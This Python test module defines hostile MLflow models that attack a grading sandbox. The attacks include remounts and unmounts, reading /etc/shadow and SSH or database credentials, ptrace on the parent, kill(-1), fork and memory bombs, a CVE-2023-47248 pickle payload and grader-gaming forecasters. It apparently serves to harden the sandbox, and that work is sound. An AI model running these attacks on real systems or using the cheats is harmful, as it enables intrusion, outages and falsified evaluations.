"""Hostile MLflow pyfunc models: each class is one attack on the grading sandbox, named by what it tries.

The sandbox cannot import this test module, so it travels by value (cloudpickle) with each model.
Everything a model does runs inside the sandbox; what it could reach it *reports* (a one-row table
with a JSON ``report`` column, see ``report``) or, where the attack ends the run, prints to its log.
A test then checks the report against the host.

Every resource attack is bounded by itself too (bytes, processes, seconds), so that a broken
sandbox makes a test fail instead of taking the machine down.
"""

from __future__ import annotations

import sys

import cloudpickle
import mlflow.pyfunc
import pandas as pd
import parquet_footer

cloudpickle.register_pickle_by_value(sys.modules[__name__])  # the sandbox cannot import this module
cloudpickle.register_pickle_by_value(parquet_footer)

GIB = 1024**3
MIB = 1024**2


# --- helpers run inside the sandbox ---------------------------------------------------------------


def report(**fields) -> pd.DataFrame:
    """What an attack achieved, as the one-row table the grader reads back."""
    import json

    return pd.DataFrame({"report": [json.dumps(fields, default=str)]})


def errno_name(number: int) -> str:
    import errno

    return errno.errorcode.get(number, str(number))


def libc_call(function: str, *args) -> str:
    """'succeeded' or the errno name of a libc call through ctypes (one that returns an int)."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    call = getattr(libc, function)
    call.restype = ctypes.c_long if function == "syscall" else ctypes.c_int
    result = call(*args)
    return "succeeded" if result >= 0 else errno_name(ctypes.get_errno())


def raw_syscall(number: int, *args: int) -> str:
    """'succeeded' or the errno name of a raw syscall (a child a clone makes leaves at once)."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) for a in args))
    if result == 0 and number in (56, 435):  # clone/clone3: in the child
        os._exit(0)
    if result > 0 and number in (56, 435):
        os.waitpid(result, 0)
    return "succeeded" if result >= 0 else errno_name(ctypes.get_errno())


def result_channel() -> int:
    """The fd of the sandbox's result channel: the pipe that is not the log (fd 2), open for writing."""
    import fcntl
    import os

    log = os.readlink("/proc/self/fd/2")
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if fd > 2 and target.startswith("pipe:") and target != log and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
            return fd
    raise RuntimeError("no result channel found")


def send_and_leave(data: bytes) -> None:
    """Write ``data`` as the result and end the process before the lab's own code writes anything."""
    import os

    fd = result_channel()
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view) :]
    os._exit(0)


def read_some(path: str, limit: int = 4096) -> str:
    """The first bytes of a file, or why it could not be read."""
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode(errors="replace")
    except OSError as error:
        return f"<{errno_name(error.errno)}>"


class Hostile(mlflow.pyfunc.PythonModel):
    """Base class: parameters are stored in ``__init__`` (scikit-learn's rule), the attack is ``predict``."""

    def __init__(self, **params) -> None:
        self.params = params


# --- the file system ------------------------------------------------------------------------------


class RemountsReadOnlyBindWritable(Hostile):
    """Remounts read-only binds (its model, the public data, the lab code, the system) writable and writes."""

    def predict(self, context, model_input, params=None):
        import os

        MS_REMOUNT, MS_BIND = 32, 4096
        mounts, wrote = {}, []
        for path in self.params["paths"]:
            mounts[f"remount {path}"] = libc_call("mount", None, path.encode(), None, MS_REMOUNT | MS_BIND, None)
            mounts[f"bind {path}"] = libc_call("mount", path.encode(), path.encode(), None, MS_BIND, None)
            mounts[f"remount {path} over its bind"] = libc_call("mount", None, path.encode(), None, MS_REMOUNT | MS_BIND, None)
            probe = os.path.join(path, ".remounted")
            try:
                with open(probe, "w") as handle:
                    handle.write("written through a remount")
                wrote.append(probe)
            except OSError:
                pass
        return report(mounts=mounts, wrote=wrote)


class UnmountsTheReferenceMask(Hostile):
    """Unmounts the masks over the instructor references, /etc/shadow and the lab state, then reads."""

    def predict(self, context, model_input, params=None):
        MNT_FORCE, MNT_DETACH = 1, 2
        unmounts, contents = {}, {}
        for path in self.params["paths"]:
            for flags in (0, MNT_DETACH, MNT_FORCE):
                unmounts[f"{path} flags={flags}"] = libc_call("umount2", path.encode(), flags)
            contents[path] = read_some(path, 1 << 16)
        return report(unmounts=unmounts, contents=contents)


class ReadsTheReferenceBytecode(Hostile):
    """Loads the instructor reference from its bytecode cache next to the masked source."""

    def predict(self, context, model_input, params=None):
        import marshal

        found = {}
        for path in self.params["paths"]:
            try:
                with open(path, "rb") as handle:
                    data = handle.read()
                code = marshal.loads(data[16:])
                found[path] = sorted({*code.co_names, *(c.co_name for c in code.co_consts if hasattr(c, "co_name"))})
            except Exception as error:  # noqa: BLE001 - what failed is the report
                found[path] = f"<{type(error).__name__}: {error}>"
        return report(found=found)


class ReadsGitHistory(Hostile):
    """Looks for the lab's git history: the checkout's .git, any .git it can find, and git itself."""

    def predict(self, context, model_input, params=None):
        import os
        import subprocess

        checkout = self.params["checkout"]
        direct = {name: read_some(os.path.join(checkout, ".git", name)) for name in ("HEAD", "config", "packed-refs", "logs/HEAD", "index")}
        found = []
        for top in ("/work", "/tmp", "/root", "/grading", "/etc"):
            for root, dirs, files in os.walk(top):
                if ".git" in dirs or ".git" in files:
                    found.append(os.path.join(root, ".git"))
                dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__")]
        try:
            run = subprocess.run(["git", "-C", checkout, "log", "-3", "--format=%H %s"], capture_output=True, text=True, timeout=10)
            git = (run.stdout + run.stderr)[-2000:]
        except (OSError, subprocess.SubprocessError) as error:
            git = f"<{error}>"
        return report(direct=direct, found=found, git=git)


class ReadsShadowBackups(Hostile):
    """Reads the password databases, their backups and other secret system files."""

    def predict(self, context, model_input, params=None):
        import glob
        import os

        patterns = (
            "/etc/shadow*", "/etc/gshadow*", "/etc/*.bak", "/etc/*-", "/etc/*~", "/etc/*.old", "/etc/*.dpkg-old",
            "/etc/security/opasswd", "/etc/sudoers", "/etc/sudoers.d/*", "/etc/ssh/*", "/etc/ssl/private/*",
            "/etc/mysql/*", "/etc/mysql/*/*", "/etc/postgresql/*/*/*", "/etc/redis/*", "/etc/rabbitmq/*",
            "/var/backups/*", "/root/.ssh/*", "/root/.pgpass", "/root/.my.cnf", "/root/.netrc", "/root/.bash_history",
            "/etc/machine-id",
        )
        contents = {}
        for pattern in patterns:
            for path in sorted(glob.glob(pattern)):
                if os.path.isfile(path):
                    contents[path] = read_some(path)
        listings = {}
        for folder in ("/etc/ssh", "/etc/ssl/private", "/etc/sudoers.d", "/etc/mysql", "/etc/postgresql", "/etc/redis", "/etc/rabbitmq"):
            try:
                listings[folder] = sorted(os.listdir(folder))
            except OSError as error:
                listings[folder] = f"<{errno_name(error.errno)}>"
        return report(contents=contents, listings=listings)


class ReadsHiddenLabels(Hostile):
    """Looks for the hidden labels (and the build's secrets and sources) everywhere it can and prints
    whatever it finds to its log, so that anything found would end up in the grading record."""

    WORDS = ("outcome", "label", "annotation", "canary", "secret", "deid", "key", "test_cgm", "hidden", "phi")

    def predict(self, context, model_input, params=None):
        import json
        import os
        from pathlib import Path

        public = Path(model_input["ehr_dir"].iloc[0]).parents[1]  # <build>/public/ehr_risk/test
        build = public.parent
        candidates = []
        for part in ("hidden", "secrets", "sources", "deid"):
            candidates += [str(build / part), f"/proc/1/root{build / part}", f"/proc/self/root{build / part}", f"/proc/2/root{build / part}"]
        found = {}
        for candidate in candidates:
            if os.path.isdir(candidate):
                for root, _, files in os.walk(candidate):
                    for name in files:
                        found[os.path.join(root, name)] = read_some(os.path.join(root, name), 300)
            elif os.path.exists(candidate):
                found[candidate] = read_some(candidate, 300)
        looked = 0
        for top in ("/work", "/tmp", "/root", "/grading", "/etc", "/dev/shm"):
            for root, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__", "include", "share", "public")]
                for name in files:
                    looked += 1
                    if any(word in name.lower() for word in self.WORDS) and not name.endswith((".py", ".pyc", ".so", ".h")):
                        path = os.path.join(root, name)
                        found.setdefault(path, read_some(path, 300))
        sys.stderr.write(json.dumps(found)[:30000] + "\n")
        sys.stderr.flush()
        raise RuntimeError(f"looked at {looked} files and {len(candidates)} hidden paths; found {len(found)} files outside the public data")


class ReadsLabState(Hostile):
    """Reads the lab's state folder (databases, MLflow records) through and around its mask."""

    def predict(self, context, model_input, params=None):
        import os

        state = self.params["state_dir"]
        found = {}
        for top in (state, "/work/main/.lab", os.path.join(os.path.dirname(state), ".lab"), f"/proc/1/root{state}", f"/proc/self/root{state}"):
            try:
                names = os.listdir(top)
            except OSError as error:
                found[top] = f"<{errno_name(error.errno)}>"
                continue
            found[top] = {name: read_some(os.path.join(top, name)) for name in names}
        found["umount"] = libc_call("umount2", state.encode(), 2)
        return report(found=found)


class WritesOutsideItsTmp(Hostile):
    """Tries to create a file in every folder it can see and to open for writing every regular file
    that looks writable to it (mode bits for its uid or group, or for others). It only opens: nothing
    is written, so a broken sandbox changes no host file."""

    def predict(self, context, model_input, params=None):
        import os
        import stat

        token, me = self.params["token"], os.getuid()
        writable_dirs, writable_files, folders, files, looked_writable = [], [], 0, 0, 0
        for root, dirs, _ in os.walk("/"):
            if root in ("/proc", "/sys"):
                dirs[:] = []
                continue
            folders += 1
            probe = os.path.join(root, f".attack-{token}")
            try:
                os.close(os.open(probe, os.O_CREAT | os.O_EXCL | os.O_WRONLY | os.O_NOFOLLOW, 0o600))
                writable_dirs.append(root)
                os.unlink(probe)
            except OSError:
                pass
            with os.scandir(root) as entries:
                for entry in entries:
                    try:
                        info = entry.stat(follow_symlinks=False)
                    except OSError:
                        continue
                    if not stat.S_ISREG(info.st_mode):
                        continue
                    files += 1
                    if not (info.st_mode & 0o002 or (info.st_uid == me and info.st_mode & 0o200) or (info.st_gid == me and info.st_mode & 0o020)):
                        continue
                    looked_writable += 1
                    try:
                        os.close(os.open(entry.path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
                        writable_files.append(entry.path)
                    except OSError:
                        pass
        return report(writable_dirs=writable_dirs, writable_files=writable_files, folders=folders, files=files, looked_writable=looked_writable)


# --- processes, namespaces, kernel interfaces ------------------------------------------------------


class CreatesUserNamespace(Hostile):
    """Creates a user namespace (and others) through unshare, clone, setns and the unshare tool."""

    def predict(self, context, model_input, params=None):
        import os
        import subprocess

        CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID, SIGCHLD = 0x20000, 0x10000000, 0x40000000, 0x20000000, 17
        tried = {
            "unshare(NEWUSER)": libc_call("unshare", CLONE_NEWUSER),
            "unshare(NEWNS)": libc_call("unshare", CLONE_NEWNS),
            "unshare(NEWNET)": libc_call("unshare", CLONE_NEWNET),
            "unshare(NEWUSER|NEWNS)": libc_call("unshare", CLONE_NEWUSER | CLONE_NEWNS),
            "clone(NEWUSER)": raw_syscall(56, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0),
            "clone(NEWPID)": raw_syscall(56, CLONE_NEWPID | SIGCHLD, 0, 0, 0, 0),
            "clone3": raw_syscall(435, 0, 0),
        }
        for target in ("/proc/1/ns/user", "/proc/1/ns/mnt", "/proc/2/ns/user"):
            try:
                fd = os.open(target, os.O_RDONLY)
                tried[f"setns {target}"] = libc_call("setns", fd, 0)
                os.close(fd)
            except OSError as error:
                tried[f"setns {target}"] = errno_name(error.errno)
        try:
            run = subprocess.run(["unshare", "-Urm", "id", "-u"], capture_output=True, text=True, timeout=10)
            tried["unshare -Urm"] = "succeeded" if run.returncode == 0 else (run.stderr.strip() or str(run.returncode))
        except (OSError, subprocess.SubprocessError) as error:
            tried["unshare -Urm"] = str(error)
        return report(tried=tried)


class MountsAFileSystem(Hostile):
    """Mounts a tmpfs, a proc, a bind of /, and tries the new mount API."""

    def predict(self, context, model_input, params=None):
        import ctypes
        import os

        os.makedirs("/tmp/mnt", exist_ok=True)
        tmpfs, root = ctypes.create_string_buffer(b"tmpfs"), ctypes.create_string_buffer(b"/")
        tried = {
            "mount tmpfs": libc_call("mount", b"none", b"/tmp/mnt", b"tmpfs", 0, None),
            "mount proc": libc_call("mount", b"proc", b"/tmp/mnt", b"proc", 0, None),
            "mount bind /": libc_call("mount", b"/", b"/tmp/mnt", None, 4096, None),
            "fsopen tmpfs": raw_syscall(430, ctypes.addressof(tmpfs), 0),
            "open_tree /": raw_syscall(428, -100, ctypes.addressof(root), 1),  # OPEN_TREE_CLONE
            "pivot_root": libc_call("syscall", 155, b"/tmp", b"/tmp/mnt"),
            "chroot": libc_call("chroot", b"/tmp"),
        }
        return report(tried=tried, mounted=os.listdir("/tmp/mnt"))


class PtracesItsParent(Hostile):
    """Attaches to its parent and to pid 1, reads their memory, steals their file descriptors."""

    def predict(self, context, model_input, params=None):
        import os

        PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_SEIZE = 0, 16, 0x4206
        parent = os.getppid()
        tried = {
            "ptrace(TRACEME)": raw_syscall(101, PTRACE_TRACEME, 0, 0, 0),
            "ptrace(ATTACH, parent)": raw_syscall(101, PTRACE_ATTACH, parent, 0, 0),
            "ptrace(SEIZE, parent)": raw_syscall(101, PTRACE_SEIZE, parent, 0, 0),
            "ptrace(ATTACH, 1)": raw_syscall(101, PTRACE_ATTACH, 1, 0, 0),
            "process_vm_readv(parent)": raw_syscall(310, parent, 0, 0, 0, 0, 0),
            "kcmp(parent)": raw_syscall(312, os.getpid(), parent, 0, 0, 0),
        }
        for pid in (parent, 1):
            for what, flags in (("mem rw", os.O_RDWR), ("mem r", os.O_RDONLY)):
                try:
                    os.close(os.open(f"/proc/{pid}/mem", flags))
                    tried[f"open /proc/{pid}/{what}"] = "succeeded"
                except OSError as error:
                    tried[f"open /proc/{pid}/{what}"] = errno_name(error.errno)
            try:
                pidfd = os.pidfd_open(pid)
                tried[f"pidfd_getfd({pid}, 0)"] = raw_syscall(438, pidfd, 0, 0)
                os.close(pidfd)
            except OSError as error:
                tried[f"pidfd_getfd({pid}, 0)"] = errno_name(error.errno)
        return report(tried=tried, parent=parent)


class KillsEverything(Hostile):
    """Kills pid 1 of its namespace, then every process it may signal (kill(-1, SIGKILL))."""

    def predict(self, context, model_input, params=None):
        import os
        import signal
        import time

        try:
            os.kill(1, signal.SIGKILL)
            outcome = "delivered"
        except OSError as error:
            outcome = errno_name(error.errno)
        sys.stderr.write(f"kill(1, SIGKILL): {outcome}\n")
        sys.stderr.flush()
        os.kill(-1, signal.SIGKILL)
        time.sleep(5)
        raise RuntimeError("still alive after kill(-1, SIGKILL)")


class KeepsStateAcrossCalls(Hostile):
    """Leaves state for its next input: files in every writable place, and a daemon on an abstract socket."""

    PLACES = ("/tmp/practicum-state", "/dev/shm/practicum-state", "/dev/practicum-state", "/grading/practicum-state",
              "/grading/model/practicum-state", "/var/tmp/practicum-state")
    SOCKET = b"\0practicum-attack-state"
    DAEMON_SECONDS = 15

    def predict(self, context, model_input, params=None):
        import os
        import socket
        import time

        call = str(model_input["call"].iloc[0])
        seen = {p: read_some(p) for p in self.PLACES if os.path.exists(p)}
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
                client.settimeout(2)
                client.connect(self.SOCKET)
                seen["daemon"] = client.recv(100).decode()
        except OSError:
            pass
        written = []
        for place in self.PLACES:
            try:
                with open(place, "w") as handle:
                    handle.write(f"left by {call}")
                written.append(place)
            except OSError:
                pass
        child = os.fork()
        if child == 0:  # a daemon that outlives this call (for DAEMON_SECONDS at most)
            try:
                os.setsid()
                if os.fork():
                    os._exit(0)
                server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                server.bind(self.SOCKET)
                server.listen(4)
                for fd in range(0, 256):
                    if fd != server.fileno():
                        try:
                            os.close(fd)
                        except OSError:
                            pass
                server.settimeout(1)
                deadline = time.monotonic() + self.DAEMON_SECONDS
                while time.monotonic() < deadline:
                    try:
                        connection, _ = server.accept()
                        connection.sendall(f"daemon of {call}".encode())
                        connection.close()
                    except OSError:
                        pass
            finally:
                os._exit(0)
        os.waitpid(child, 0)
        return report(call=call, seen=seen, written=written)


class ReachesLoopbackServices(Hostile):
    """Connects to the lab's loopback services (PostgreSQL, Redis, RabbitMQ, MariaDB), the grader's own
    loopback ports (TCP, UDP, abstract and path Unix sockets)."""

    def predict(self, context, model_input, params=None):
        import socket

        reached = {}
        for port in self.params["tcp_ports"]:
            for host in ("127.0.0.1", "::1", "localhost"):
                try:
                    socket.create_connection((host, port), timeout=1).close()
                    reached[f"tcp {host}:{port}"] = "connected"
                except OSError as error:
                    reached[f"tcp {host}:{port}"] = errno_name(error.errno) if error.errno else str(error)
        for port in self.params["udp_ports"]:
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                    udp.sendto(b"attack", ("127.0.0.1", port))
                    reached[f"udp 127.0.0.1:{port}"] = "sent"
            except OSError as error:
                reached[f"udp 127.0.0.1:{port}"] = errno_name(error.errno)
        for path in [*self.params["unix_paths"], *(b"\0" + n.encode() for n in self.params["abstract_names"])]:
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
                    unix.settimeout(1)
                    unix.connect(path)
                reached[f"unix {path!r}"] = "connected"
            except OSError as error:
                reached[f"unix {path!r}"] = errno_name(error.errno)
        interfaces = [name for _, name in socket.if_nameindex()]
        return report(reached=reached, interfaces=interfaces)


class OpensVsock(Hostile):
    """Opens an AF_VSOCK socket: vsock is not network-namespaced, it reaches the hypervisor side of a VM.
    (It only creates sockets: no connection is attempted, nothing outside this machine is targeted.)"""

    def predict(self, context, model_input, params=None):
        import socket

        tried = {}
        for kind, name in ((socket.SOCK_STREAM, "stream"), (socket.SOCK_DGRAM, "dgram"), (socket.SOCK_SEQPACKET, "seqpacket")):
            try:
                socket.socket(socket.AF_VSOCK, kind).close()
                tried[name] = "created"
            except OSError as error:
                tried[name] = errno_name(error.errno)
        return report(tried=tried)


# --- resources ------------------------------------------------------------------------------------


class FloodsTheLog(Hostile):
    """Writes 1 GiB to stdout and stderr (20 s at most), then fails."""

    def predict(self, context, model_input, params=None):
        import os
        import time

        total, seconds = self.params.get("total_bytes", GIB), self.params.get("seconds", 20)
        chunk = b"flood! " * (1 << 17)
        sent, deadline = 0, time.monotonic() + seconds
        while sent < total and time.monotonic() < deadline:
            for fd in (1, 2):
                sent += os.write(fd, chunk)
        raise RuntimeError(f"flooded the log with {sent} bytes")


class FloodsTheResultChannel(Hostile):
    """Writes 300 MiB to the result channel (20 s at most): more than the grader keeps."""

    def predict(self, context, model_input, params=None):
        import os
        import time

        fd, chunk = result_channel(), b"\0" * MIB
        sent, deadline = 0, time.monotonic() + 20
        while sent < 300 * MIB and time.monotonic() < deadline:
            sent += os.write(fd, chunk)
        os._exit(0)


class MemoryBombSharedMmap(Hostile):
    """Maps 8 GiB of shared anonymous memory and touches every page (20 s at most)."""

    def predict(self, context, model_input, params=None):
        import mmap
        import time

        size, block = self.params.get("size", 8 * GIB), b"\1" * (64 * MIB)
        memory = mmap.mmap(-1, size, flags=mmap.MAP_SHARED)
        deadline, touched = time.monotonic() + 20, 0
        while touched < size and time.monotonic() < deadline:
            memory[touched : touched + len(block)] = block
            touched += len(block)
        raise RuntimeError(f"touched {touched} bytes of shared memory")


class MemoryBombForkedChildren(Hostile):
    """Forks 3 children that each touch 2.5 GiB of private memory (20 s at most)."""

    def predict(self, context, model_input, params=None):
        import mmap
        import os
        import time

        size, block = int(2.5 * GIB), b"\1" * (64 * MIB)
        children = []
        for _ in range(3):
            pid = os.fork()
            if pid == 0:
                try:
                    memory = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE)
                    deadline, touched = time.monotonic() + 20, 0
                    while touched < size and time.monotonic() < deadline:
                        memory[touched : touched + len(block)] = block
                        touched += len(block)
                    time.sleep(max(0.0, deadline - time.monotonic()))
                finally:
                    os._exit(0)
            children.append(pid)
        statuses = [os.waitpid(pid, 0)[1] for pid in children]
        raise RuntimeError(f"children ended with {statuses}")


class FillsTmp(Hostile):
    """Writes to a file in /tmp (or ``where``) until the write fails (4 GiB or 20 s at most)."""

    def predict(self, context, model_input, params=None):
        import os
        import time

        where = self.params.get("where", "/tmp")
        written, failure, deadline, chunk = 0, "none", time.monotonic() + 20, b"\1" * MIB
        try:
            fd = os.open(os.path.join(where, "fill"), os.O_CREAT | os.O_WRONLY, 0o600)
            while written < 4 * GIB and time.monotonic() < deadline:
                written += os.write(fd, chunk)
        except OSError as error:
            failure = errno_name(error.errno)
        raise RuntimeError(f"wrote {written} bytes to {where} before {failure}")


class FillsDevShm(FillsTmp):
    """Writes to /dev/shm until the write fails (4 GiB or 20 s at most)."""

    def __init__(self) -> None:
        super().__init__(where="/dev/shm")


class FillsDev(FillsTmp):
    """Writes to /dev itself (a tmpfs bubblewrap makes, sized by nothing) until the write fails."""

    def __init__(self) -> None:
        super().__init__(where="/dev")


class ForkBomb(Hostile):
    """Starts processes until that fails (1024 processes or 3 s at most, each a 3 s sleep). It spawns
    them with posix_spawn (vfork): forking a large interpreter would be too slow to be a bomb."""

    def predict(self, context, model_input, params=None):
        import os
        import time

        deadline, started = time.monotonic() + 3, 0
        try:
            while started < 1024 and time.monotonic() < deadline:
                os.posix_spawn("/bin/sleep", ["sleep", "3"], {})
                started += 1
        except OSError as error:
            raise RuntimeError(f"the fork bomb was stopped after {started} processes: {error}") from None
        raise RuntimeError(f"the fork bomb was not stopped: {started} processes started")


class InfiniteLoop(Hostile):
    """Spins forever (60 s at most)."""

    def predict(self, context, model_input, params=None):
        import time

        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            pass
        return report(spun="60 s")


# --- what it hands back -----------------------------------------------------------------------------


class ReturnsHugeTable(Hostile):
    """Returns 15 M rows that compress to a few kilobytes of Parquet."""

    def predict(self, context, model_input, params=None):
        import io

        import numpy as np
        import pyarrow as pa
        import pyarrow.parquet as pq

        rows, buffer = self.params.get("rows", 15_000_000), io.BytesIO()
        zeros = pa.array(np.zeros(1_000_000))
        with pq.ParquetWriter(buffer, pa.schema([("probability", pa.float64())])) as writer:
            for _ in range(rows // 1_000_000):
                writer.write_table(pa.table({"probability": zeros}))
        send_and_leave(buffer.getvalue())


class ReturnsGarbageBytes(Hostile):
    """Writes bytes that are not Parquet to the result channel it finds."""

    def predict(self, context, model_input, params=None):
        send_and_leave(b"PAR1 this is not a table \x00\xff" * 1000)


class ReturnsTableLyingInFooter(Hostile):
    """Returns a Parquet file whose footer claims a few rows (and bytes) while its pages hold millions."""

    def predict(self, context, model_input, params=None):
        send_and_leave(self.params["payload"])


class BloatsTheFooter(Hostile):
    """Returns a Parquet file that is almost only footer: megabytes of minimal Thrift row groups that
    a reader expands a few hundred times in memory while it parses the metadata."""

    def predict(self, context, model_input, params=None):
        send_and_leave(parquet_footer.bloated_footer(self.params.get("footer_bytes", 8 * MIB)))


class PicklePayloadInOutput(Hostile):
    """Returns a valid-looking table whose Arrow schema marks a column as ``arrow.py_extension_type``
    with a pickled payload (CVE-2023-47248): unpickled in the grader it would create a host file."""

    def predict(self, context, model_input, params=None):
        send_and_leave(self.params["payload"])


# --- protocol cheats --------------------------------------------------------------------------------


class ForgedGlucosePass(Hostile):
    """The stateful memoriser: remembers every reading it is shown (in every place that might outlive
    a call) and forecasts the remembered reading at origin + horizon, persistence where it has none.
    With memory across calls it is perfect on the whole block and on the cut copies alike; called
    fresh each time it can only peek within the input it holds, which the cut copies expose."""

    PLACES = ("/tmp/glucose-memory.pkl", "/dev/shm/glucose-memory.pkl", "/dev/glucose-memory.pkl")

    def predict(self, context, model_input, params=None):
        import pickle

        memory = {}
        for place in self.PLACES:
            try:
                with open(place, "rb") as handle:
                    memory.update(pickle.load(handle))
            except (OSError, EOFError, pickle.UnpicklingError):
                pass
        frame = model_input.sort_values(["patient_id", "timestamp"], kind="stable")
        for pid, t, g in zip(frame["patient_id"], frame["timestamp"], frame["glucose_mg_dl"], strict=True):
            if g == g:
                memory[(pid, pd.Timestamp(t))] = float(g)
        for place in self.PLACES:
            try:
                with open(place, "wb") as handle:
                    pickle.dump(memory, handle)
            except OSError:
                pass
        now = frame.groupby("patient_id")["glucose_mg_dl"].ffill().fillna(120.0)
        rows = []
        for horizon in self.params.get("horizons", (30,)):
            ahead = pd.Timedelta(minutes=horizon)
            for (pid, t), current in zip(zip(frame["patient_id"], frame["timestamp"], strict=True), now, strict=True):
                rows.append((pid, t, float(horizon), memory.get((pid, pd.Timestamp(t) + ahead), float(current))))
        return pd.DataFrame(rows, columns=["patient_id", "timestamp", "horizon_min", "predicted_mg_dl"])


class NearDuplicateHorizons(Hostile):
    """Gives two forecasts per origin, at 30 and 30 + 1e-6 minutes, hoping one of them is scored."""

    def predict(self, context, model_input, params=None):
        now = model_input.groupby("patient_id")["glucose_mg_dl"].ffill().fillna(120.0)
        base = pd.DataFrame({"patient_id": model_input["patient_id"], "timestamp": model_input["timestamp"], "predicted_mg_dl": now})
        return pd.concat([base.assign(horizon_min=30.0), base.assign(horizon_min=30.0 + 1e-6, predicted_mg_dl=now + 5.0)], ignore_index=True)


# --- honest models, graded after the attacks ----------------------------------------------------------


class HonestReport(Hostile):
    """Does nothing hostile: reports that it ran."""

    def predict(self, context, model_input, params=None):
        return report(rows=len(model_input))


class AlbuminuriaRisk(Hostile):
    """An honest complication-risk model: the higher a patient's mean urine albumin/creatinine ratio, the higher the risk."""

    def predict(self, context, model_input, params=None):
        from pathlib import Path

        labs = pd.read_csv(Path(model_input["ehr_dir"].iloc[0]) / "labs.csv", dtype={"patient_id": str})
        ratio = labs[labs["test"] == "Urine albumin/creatinine ratio"]
        mean = pd.to_numeric(ratio["value"], errors="coerce").groupby(ratio["patient_id"]).mean()
        score = (mean - mean.min()) / (mean.max() - mean.min() + 1e-9)
        return pd.DataFrame({"patient_id": model_input["patient_id"], "probability": [float(score.get(p, 0.5)) for p in model_input["patient_id"]]})


class Persistence(Hostile):
    """An honest glucose forecaster: the last observed reading."""

    def predict(self, context, model_input, params=None):
        now = model_input.groupby("patient_id")["glucose_mg_dl"].ffill().fillna(120.0)
        frames = [
            pd.DataFrame({"patient_id": model_input["patient_id"], "timestamp": model_input["timestamp"], "horizon_min": float(h), "predicted_mg_dl": now})
            for h in self.params.get("horizons", (30,))
        ]
        return pd.concat(frames, ignore_index=True)
